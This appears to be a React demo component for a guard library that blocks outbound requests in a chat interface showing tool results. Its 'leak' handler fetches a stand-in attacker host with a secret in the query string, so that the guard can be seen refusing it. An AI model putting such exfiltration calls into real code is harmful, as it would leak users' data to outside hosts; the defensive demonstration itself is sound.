import { useState } from "react";
import { useGuard } from "mcp-cordon/react";
import Answer from "./Answer.jsx";
import Message from "./Message.jsx";
import { calls } from "./calls.js";
import { policy } from "./policy.js";

export default function App() {
  const { guard, violations } = useGuard(policy);
  const [answer, setAnswer] = useState("not yet");

  const leak = () => {
    fetch("https://attacker.example/?secret=1").then(
      () => setAnswer("sent"),
      (error) => setAnswer(error.name),
    );
  };

  return (
    <main>
      <h1>Chat</h1>
      {calls.map(({ tool, result }) => (
        <Message key={tool} tool={tool} result={result} />
      ))}
      <Answer />
      <section aria-labelledby="guard">
        <h2 id="guard">The guard {guard ? "is up" : "is not up"}</h2>
        <button type="button" onClick={leak}>
          Send something to attacker.example
        </button>
        <p>
          The last attempt: <output>{answer}</output>
        </p>
        <ul>
          {violations.map(({ api, origin, time }) => (
            <li key={`${api} ${origin} ${time}`}>
              {api} to {origin} was refused
            </li>
          ))}
        </ul>
      </section>
    </main>
  );
}
